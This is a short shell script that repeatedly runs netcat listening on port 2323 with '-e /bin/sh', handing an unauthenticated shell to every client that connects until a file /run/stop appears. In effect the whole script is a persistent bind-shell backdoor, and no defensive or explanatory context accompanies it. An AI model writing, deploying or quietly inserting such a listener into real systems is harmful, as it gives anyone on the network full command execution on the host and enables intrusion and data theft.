#!/bin/sh
# Runs what comes in at port 2323, one connection after the other, each in a shell of its own; ends with /run/stop.
mkdir -p /run
while [ ! -e /run/stop ]; do nc -l -p 2323 -e /bin/sh; done
exit 0
